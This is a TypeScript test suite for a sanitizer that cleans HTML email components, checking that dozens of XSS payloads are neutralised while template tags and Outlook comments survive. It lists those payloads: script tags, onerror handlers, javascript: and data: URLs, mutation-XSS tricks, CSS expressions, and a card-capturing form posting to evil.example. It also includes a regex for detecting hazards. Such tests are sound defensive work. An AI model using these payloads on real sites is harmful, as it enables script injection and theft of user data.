import { describe, expect, it } from 'vitest';
import { sanitizeComponent } from '#functions/app/components/sanitize.ts';
import fc from '#tests/support/fast-check.ts';
import { firstOf } from '#tests/support/long-test.ts';
import { propertyRuns } from '#tests/support/property-runs.ts';

const clean = (html: string) => sanitizeComponent(html, 'c1');
const html = (source: string) => clean(source).compiled_html;
const removed = (source: string) => clean(source).removed.join('\n');

const FORBIDDEN =
  /^(?:script|iframe|object|embed|applet|form|input|button|textarea|select|svg|math|link|meta|base|video|audio|style|template|noscript|frameset|xmp|title)$/i;
const TAG = /<([a-z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^"'>])*)>/gi;
const ATTRIBUTE = /([^\s"'>/=]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+))?/g;

/** Could run or load anything but a picture, as browsers parse it. */
function hazards(markup: string): string[] {
  const shown = markup.replace(/<!--\[if [^\]]*\]>[\s\S]*?<!\[endif\]-->/g, '');
  const inComments = /<!--[\s\S]*?(?:<script|\son\w+=)[\s\S]*?-->/i.test(markup)
    ? ['something that runs in a comment']
    : [];
  const inTags = [...shown.matchAll(TAG)].flatMap(([tag, name = '', rest = '']) => {
    const attributes = [...rest.matchAll(ATTRIBUTE)].map(
      ([, key = '', value = '']) => [key.toLowerCase(), value.replace(/^["']|["']$/g, '')] as const,
    );
    const bad = attributes.some(
      ([key, value]) =>
        /^on|^srcdoc$|^srcset$|^xlink|^action$|^formaction$/.test(key) ||
        (/^(?:href|src|background)$/.test(key) &&
          /^\s*(?:javascript|vbscript|data|file|blob)\s*:/i.test(value)) ||
        (key === 'style' &&
          /expression\s*\(|script\s*:|behaviou?r|-moz-binding|position\s*:|@import|progid/i.test(value)),
    );
    return bad || FORBIDDEN.test(name) ? [tag] : [];
  });
  return [...inTags, ...inComments];
}

describe('hostile components become harmless', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" OnErRoR="alert(1)">',
    '<img/src="https://a.example/x.png"/onload=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="wid\\74h:exp\\72ession(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(x.xml#y)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<style>@import url(https://evil.example/x.css);</style>',
    '<style>p{background:url("javascript:alert(1)")}</style><p>x</p>',
    '<style></style><script>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<textarea></textarea><img src=x onerror=alert(1)>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<title></title><img src=x onerror=alert(1)>',
    '<video poster="javascript:alert(1)"><source onerror=alert(1)></video>',
    '<p title="<!--[if mso]><script>alert(1)</script><![endif]-->">x</p>',
    '<!--[if mso]><script>alert(1)</script><![endif]-->',
    '<!--[if mso]><p onclick="alert(1)">x</p><![endif]-->',
    '<!--[if mso]>--!><script>alert(1)</script><![endif]-->',
    '<!--><script>alert(1)</script>-->',
    '{{ <script>alert(1)</script> }}',
    '{% if "<img src=x onerror=alert(1)>" %}',
    '<a href="{{ x|default:"onmouseover=alert(1) b=" }}">x</a>',
    `<a title="{{ x|default:"'" }} onclick=alert(1)">x</a>`,
    '<a href="java{{ x }}script:alert(1)">x</a>',
    '<a href="{{ x }}javascript:alert(1)">x</a>',
    '<a href="{nothing}javascript:alert(1)">x</a>',
    '<{{ "script" }}>alert(1)</{{ "script" }}>',
    '<im{{ x }}g src=x onerror=alert(1)>',
    '<div style="color:{{ "red;position:fixed" }}">x</div>',
    '<p {{ x }} onclick="alert(1)">x</p>',
  ])('%s', (payload) => {
    expect(hazards(html(payload))).toEqual([]);
    expect(clean(payload).head_css).not.toMatch(/<|javascript|@import|evil/i);
  });

  it('reports what was removed, each once', () => {
    const list = clean(
      '<script>1</script><script>2</script><p onclick=x onclick=y style="position:fixed;color:red">Hi</p><a href="javascript:1">x</a>',
    ).removed;
    expect(list).toEqual([
      '<script> and its content (2 times)',
      'the attribute onclick of <p>',
      'the style position:fixed',
      'the address javascript:1 of <a>: it starts with javascript:',
    ]);
  });

  it('reports nothing when nothing was removed', () => {
    expect(clean('<p style="color:#333333">Hi <b>there</b></p>').removed).toEqual([]);
  });
});

describe('platform tags and Outlook’s comments stay byte for byte', () => {
  it.each([
    '{{ first_name|default:"there" }}',
    "{{ event.extra|lookup:'x' }}",
    '{% if a > 3 and b %}yes{% else %}no{% endif %}',
    '{% if a < b && c %}x{% endif %}',
    '{% unsubscribe "Leave" %}',
    '<a href="{% unsubscribe_link %}">Leave</a>',
    '<a href="{{ url|default:\'https://x.example\' }}">Go</a>',
    '<!--[if mso]><table role="presentation" width="600"><tr><td><![endif]--><div>x</div><!--[if mso]></td></tr></table><![endif]-->',
    '<!--[if (gte mso 9)|(IE)]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="{cta_link}" arcsize="8%" fillcolor="#336699"><w:anchorlock/></v:roundrect><![endif]-->',
    '<!--[if !mso]><!--><b>x</b><!--<![endif]-->',
    '<!--[if !mso]><!-- --><b>x</b><!-- <![endif]-->',
    '<![if !mso]><b>x</b><![endif]>',
    '<p>{cta_text} and {headline}</p>',
    '<a href="{cta_link}">{cta_text}</a>',
    '<a href="https://x.example/?u={{ person.id }}&amp;v=1">x</a>',
    '<table role="presentation" width="100%"><tr><td bgcolor="#ffffff" align="center" style="padding:10px 20px;mso-line-height-rule:exactly">x</td></tr></table>',
    '<img src="https://x.example/a.png" alt="" width="600" style="display:block;width:100%" />',
  ])('%s', (source) => {
    expect(html(source)).toBe(source);
    expect(clean(source).removed).toEqual([]);
  });

  it('a tag may be a colour in a style', () => {
    const source = '<p style="color:{{ brand.colour|default:\'#336699\' }};border-color:{primary}">x</p>';
    expect(html(source)).toBe(source);
  });

  it('a tag in an attribute loses only the quotes that would end the attribute', () => {
    expect(html('<a href="{{ url|default:"https://x.example" }}">x</a>')).toBe(
      `<a href="{{ url|default:'https://x.example' }}">x</a>`,
    );
  });
});

describe('addresses', () => {
  it.each([
    ['<a href="/shop">x</a>', /relative/],
    ['<a href="#">x</a>', /leads nowhere/],
    ['<a href="">x</a>', /leads nowhere/],
    ['<a href="//x.example">x</a>', /no https: in front/],
    ['<img src="images/a.png">', /relative/],
    ['<td background="data:x">x</td>', /starts with data:/],
    ['<a href="java{{ x }}script:alert(1)">x</a>', /starts with javascript:/],
    ['<a href="{{ x }}javascript:alert(1)">x</a>', /starts with javascript:/],
    ['<a href="{nothing}javascript:alert(1)">x</a>', /starts with javascript:/],
    ['<a href="shop/{{ x }}">x</a>', /relative/],
  ])('%s is removed and reported', (source, words) => {
    expect(html(source)).not.toMatch(/href=|src=|background=/);
    expect(removed(source)).toMatch(words);
  });

  it.each([
    '<a href="http://x.example">x</a>',
    '<img src="http://x.example/a.png" />',
    '<p style="background-image:url(http://x.example/a.png)">x</p>',
  ])('%s stays, with advice to use https', (source) => {
    expect(html(source)).toBe(source);
    expect(removed(source)).toMatch(/^kept, but change it: .*use https$/);
  });

  it.each(['mailto:a@x.example', 'tel:+15550134', 'https://x.example/a b'])('%s is a link', (url) => {
    expect(html(`<a href="${url}">x</a>`)).toContain('href="');
  });
});

describe('what exports of other tools are made of', () => {
  it.each([
    '<img src="https://a.example/x.png" usemap="#m" alt="x" /><map name="m"><area shape="rect" coords="0,0,9,9" href="https://a.example/a" alt="A" /></map>',
    '<picture><source media="(prefers-color-scheme: dark)" srcset="https://a.example/d.png" /><img src="https://a.example/l.png" alt="x" /></picture>',
    '<table data-klaviyo-universal-block="b1"><tr><td data-klaviyo-region="true">x</td></tr></table>',
    '<a href="[unsubscribe]">Leave</a>',
    '<p style="text-underline-color:red">x</p>',
  ])('stays as it is: %s', (source) => {
    expect(html(source)).toBe(source);
    expect(removed(source)).toBe('');
  });

  it.each([
    [
      '<video poster="https://a.example/p.jpg"><source src="https://a.example/v.mp4"><a href="https://a.example/v"><img src="https://a.example/p.jpg" alt="Play"></a>Your browser plays no video.</video>',
      '<a href="https://a.example/v"><img src="https://a.example/p.jpg" alt="Play" /></a>',
      /its picture is kept/,
    ],
    [
      '<video src="https://a.example/v.mp4">Your browser plays no video.</video>',
      '',
      /<video> and its content/,
    ],
    [
      '<style>@font-face{font-family:X;src:url(https://f.example/x.woff2)}</style><p>x</p>',
      '<p>x</p>',
      /fonts are not loaded from other servers/,
    ],
    [
      '<picture><source srcset="https://a.example/a.png 1x, https://a.example/b.png 2x" /><img src="https://a.example/l.png" alt="x" /></picture>',
      '<picture><source /><img src="https://a.example/l.png" alt="x" /></picture>',
      /one address, without sizes/,
    ],
    [
      '<map name="m"><area href="javascript:alert(1)" alt="A" /></map>',
      '<map name="m"><area alt="A" /></map>',
      /starts with javascript:/,
    ],
  ])('loses only what no email program shows, by name: %s', (source, kept, named) => {
    expect(html(source)).toBe(kept);
    expect(removed(source)).toMatch(named);
  });
});

describe('a component’s own styles', () => {
  it('are inlined', () => {
    expect(
      html(
        '<style>.btn{color:red;padding:4px} td.btn{color:blue}</style><table><tr><td class="btn">x</td></tr></table>',
      ),
    ).toContain('style="padding:4px;color:blue"');
  });

  it('are overridden by the element’s own, unless important', () => {
    expect(
      html(
        '<style>p{color:red} b{color:red !important}</style><p style="color:blue">x</p><b style="color:blue">y</b>',
      ),
    ).toMatch(/<p style="color:blue">x<\/p><b style="color:red/);
  });

  it('that only work in the head go there, scoped to the component', () => {
    const { head_css, compiled_html } = clean(
      '<style>@media (max-width:480px){.a{width:100% !important} b,i{color:red}} .a:hover{color:blue} [data-ogsc] .a{color:#ffffff}</style><p class="a">x</p>',
    );
    expect(compiled_html).toBe('<div class="glc-c1"><p class="a">x</p></div>');
    expect(head_css).toBe(
      [
        '@media (max-width:480px){.glc-c1 .a{width:100% !important}\n.glc-c1 b,.glc-c1 i{color:red}\n}',
        '.glc-c1 .a:hover{color:blue}',
        '[data-ogsc] .glc-c1 .a{color:#ffffff}',
      ].join('\n'),
    );
  });

  it.each([
    ['@import "x.css";', /@import/],
    ['@font-face{font-family:x;src:url(x)}', /@font-face/],
    ['@media screen{@supports (x:y){p{color:red}}}', /inside @media/],
    ['body{margin:0}', /can only style itself/],
    [':root{color-scheme:dark}', /can only style itself/],
    ['p:has(img){color:red}', /email programs do not support its selector/],
    ['a b c d e f{color:red}', /email programs do not support its selector/],
    ['p{position:absolute;color:red}', /position:absolute/],
    ['p{color:red', /as a whole/],
  ])('%s is left out and reported', (css, words) => {
    expect(removed(`<style>${css}</style><p>x</p>`)).toMatch(words);
  });

  it('cannot close the head’s style element or their rule', () => {
    const { head_css } = clean(
      '<style>@media screen{.a{color:red}}</style><style>.b:hover{color:{{ "}</style><script>" }}}</style><p class="a b">x</p>',
    );
    expect(head_css).not.toMatch(/<|\{\{/);
  });
});

describe('markup', () => {
  it.each([
    ['<div><p>x', '<div><p>x</p></div>'],
    ['x</div></p></td>', /^x/],
    ['<b><i>x</b></i>', '<b><i>x</i></b>'],
    [
      '<tr><td>a<td>b<tr><td>c',
      /^<table role="presentation"[^>]*><tr><td>a<\/td><td>b<\/td><\/tr><tr><td>c<\/td><\/tr><\/table>$/,
    ],
    ['<td>a</td><p>b</p>', /^<table [^>]*><tr><td>a<\/td><\/tr><\/table><p>b<\/p>$/],
    ['<p>a < b & c</p>', '<p>a &lt; b &amp; c</p>'],
    ['<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>', '<p>x</p>'],
    ['<p>😀 مرحبا {cta_text}</p>', '<p>😀 مرحبا {cta_text}</p>'],
    ['', ''],
    [' \n ', ''],
  ])('%s is balanced', (source, expected) => {
    if (typeof expected === 'string') expect(html(source)).toBe(expected);
    else expect(html(source)).toMatch(expected);
    expect(isBalanced(html(source))).toBe(true);
  });

  it('placeholders are listed once, in order, without the platform’s tags', () => {
    expect(
      clean('<a href="{cta_link}">{cta_text}</a> {cta_link} {{ first_name }} {% x %} { not } {1}')
        .placeholders,
    ).toEqual(['cta_link', 'cta_text']);
  });
});

describe('size', () => {
  const megabyte = (unit: string) => unit.repeat(Math.floor(1_000_000 / unit.length));

  const sources = [
    ['unclosed platform tags', megabyte('{{ ')],
    ['one unreadable style', `<p style="${megabyte('a;b:c;')}">x</p>`],
    ['attributes', `<p ${megabyte('a=1 ')}>x</p>`],
    ['text', megabyte('lorem ipsum ')],
    ['one long style', `<p style="${megabyte('color:red;')}">x</p>`],
    ['unclosed comments', megabyte('<!--')],
    ['brackets', megabyte('<')],
    ['rules', `<style>${megabyte('.a td{color:red}')}</style><p>x</p>`],
    ['an unclosed rule', `<style>${megabyte('a{')}</style>x`],
  ] as const;
  it.each(firstOf(sources))('finishes a megabyte of %s', (_, source) => {
    const { compiled_html, head_css } = clean(source);
    expect(compiled_html.length + head_css.length).toBeLessThanOrEqual(5 * source.length);
  });

  it('refuses more tags than any email has, with their number', () => {
    expect(() => clean(megabyte('<div>'))).toThrow(/200,000 tags/);
  });

  it('flattens deep nesting', () => {
    const depth = html(`${'<div>'.repeat(5_000)}x`).match(/<div>/g)?.length ?? 0;
    expect(depth).toBeLessThanOrEqual(120);
  });
});

describe('any component', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ...[
        '<p>',
        '</p>',
        '<table>',
        '</table>',
        '<tr>',
        '<td>',
        '</td>',
        '<a href="',
        '">',
        '<img src=x onerror=alert(1)>',
        '<style>',
        '</style>',
        '.a{',
        '}',
        'color:red;',
        '@media (x){',
      ],
      ...[
        '<!--',
        '-->',
        '<!--[if mso]>',
        '<![endif]-->',
        '<![if !mso]>',
        '{{',
        '}}',
        '{%',
        '%}',
        '{cta_text}',
        '"',
        "'",
        '<',
        '>',
        '&lt;',
        '&#60;',
        '<script>',
        '</script>',
        'javascript:',
      ],
      ...[
        'style="position:fixed;',
        'onclick=x',
        ' ',
        '\n',
        '\u0000',
        'glm0x0z',
        '😀',
        '<svg>',
        '</svg>',
        '<br>',
        '<li>',
        '<noscript>',
      ],
    ),
    fc.string({ maxLength: 8 }),
  );
  const fragment = fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join(''));

  it('is safe and balanced afterwards, and a second pass changes nothing', () => {
    fc.assert(
      fc.property(fragment, (source) => {
        const first = html(source);
        expect(hazards(first)).toEqual([]);
        expect(isBalanced(first)).toBe(true);
        expect(html(first)).toBe(first);
      }),
      propertyRuns(1_500),
    );
  });

  it('keeps plain text, escaped', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('a', ' ', '<', '>', '&', '"', '😀', 'é') }), (text) => {
        const escaped = text
          .replaceAll('&', '&amp;')
          .replaceAll('<', '&lt;')
          .replaceAll('>', '&gt;')
          .replaceAll('"', '&quot;');
        const back = html(`<p>x${escaped}x</p>`).replace(/^<p>x|x<\/p>$/g, '');
        expect(
          back
            .replaceAll('&quot;', '"')
            .replaceAll('&lt;', '<')
            .replaceAll('&gt;', '>')
            .replaceAll('&amp;', '&'),
        ).toBe(text);
      }),
    );
  });
});

/** Every element is closed in order, ignoring comments and platform tags. */
function isBalanced(markup: string): boolean {
  const open: string[] = [];
  const bare = markup.replace(/<!--[\s\S]*?-->|<!\[[^\]]*\]>|\{\{[\s\S]*?\}\}|\{%[\s\S]*?%\}/g, '');
  for (const [, slash, name = '', rest = ''] of bare.matchAll(
    /<(\/?)([a-z][a-z0-9]*)((?:[^<>"]|"[^"]*")*)>/g,
  )) {
    if (slash) {
      if (open.pop() !== name) return false;
    } else if (!rest.endsWith('/') && !['br', 'hr', 'img', 'col', 'wbr'].includes(name)) open.push(name);
  }
  return open.length === 0;
}
